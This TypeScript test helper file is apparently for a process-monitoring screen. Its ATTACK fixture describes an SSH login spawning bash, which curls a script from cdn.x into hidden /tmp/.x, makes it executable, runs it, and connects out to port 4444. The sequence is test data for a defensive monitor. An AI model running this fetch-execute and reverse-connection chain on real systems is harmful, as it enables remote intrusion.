import { afterEach } from "vitest";
import type { Monitor } from "../../src/core/monitor.ts";
import { BatchWriter } from "../../src/core/wire/encode.ts";
import { BASE_NS, graphFromText, WALL_NS } from "../core/fixture.ts";
import { Screen, type ScreenOptions } from "./screen.tsx";

export const ATTACK = `
  sshd listens :22
  sshd:22 <- 203.0.113.9:51022
  sshd > bash
  bash > curl(-s http://cdn.x/i.sh -o /tmp/.x)
  curl -> 198.51.100.7:80
  curl writes /tmp/.x
  curl exits 0
  bash > chmod(+x /tmp/.x)
  chmod chmods /tmp/.x
  chmod exits 0
  bash > /tmp/.x
  .x -> 192.0.2.77:4444
`;

const open: Screen[] = [];
afterEach(() => {
  for (const screen of open.splice(0)) screen.close();
});

export function show(monitor: Monitor, options: ScreenOptions = {}): Screen {
  const screen = new Screen(monitor, options);
  open.push(screen);
  return screen;
}

export const attack = (options: ScreenOptions = {}): Screen => show(graphFromText(ATTACK).monitor, options);

/** The screen of a story. */
export const tell = (story: string, options: ScreenOptions = {}): Screen => show(graphFromText(story).monitor, options);

/** Processes under pid 1, numbered from `from`; each call is one more batch. */
export function crowd(
  monitor: Monitor,
  from: number,
  count: number,
  argv = (pid: number) => [`worker-${pid}`],
  cgroupPath = "",
): void {
  const writer = new BatchWriter();
  const timeNs = BASE_NS + 60e9 + from * 1e6;
  for (let pid = from; pid < from + count; pid++) {
    writer.image({
      timeNs,
      pid,
      startNs: BASE_NS + pid * 1e6,
      exe: "/usr/bin/worker",
      argv: argv(pid),
      comm: "worker",
      cwd: "/",
      parentPid: 1,
      parentStartNs: 1_000_000,
      uid: 1000,
      ...(cgroupPath === "" ? {} : { cgroup: cgroupPath.length, cgroupPath }),
    });
  }
  monitor.ingest(writer.finish(timeNs, WALL_NS + BigInt(timeNs - BASE_NS)));
}

export const selectedRow = async (screen: Screen): Promise<string> => {
  const lines = await screen.lines();
  for (const [y, line] of lines.entries()) {
    if ((await screen.background(5, y)) === 0x264f78) return line;
  }
  return "";
};
